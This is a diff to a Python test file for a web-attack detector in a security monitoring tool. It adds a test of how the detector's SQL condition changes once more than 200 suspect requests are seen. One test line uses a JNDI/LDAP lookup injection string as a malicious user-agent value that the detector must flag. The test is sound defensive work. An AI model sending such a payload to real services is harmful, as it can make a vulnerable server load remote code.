@@ -3,7 +3,7 @@
 from tests.soc.detectors.streams import every, found
 
 from hodoscope.soc.detectors.examples import Row
-from hodoscope.soc.detectors.web_attacks import WebAttacks
+from hodoscope.soc.detectors.web_attacks import KEPT_IDS, WebAttacks
 from hodoscope.soc.finding import Severity
 
 
@@ -52,3 +52,12 @@ def test_a_browsers_user_agent_is_not_an_attack() -> None:
     agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120"
     assert not found(WebAttacks(), every(1, [{**request(), "http_request_user_agent": agent}]))
     assert found(WebAttacks(), every(1, [{**request(), "http_request_user_agent": "${jndi:ldap://192.0.2.1/x}"}]))
+
+
+def test_beyond_the_kept_ids_the_condition_selects_suspect_requests() -> None:
+    """Up to 200 requests are named one by one; after that source, time and the prefilter are all SQL can say."""
+    (few,) = found(WebAttacks(), every(1, [request(SQLI)] * KEPT_IDS))
+    (many,) = found(WebAttacks(), every(1, [request(SQLI)] * (KEPT_IDS + 1)))
+    assert few.where.count("unhex") == few.event_count == KEPT_IDS
+    assert "unhex" not in many.where
+    assert "match(http_request_url_query_string" in many.where
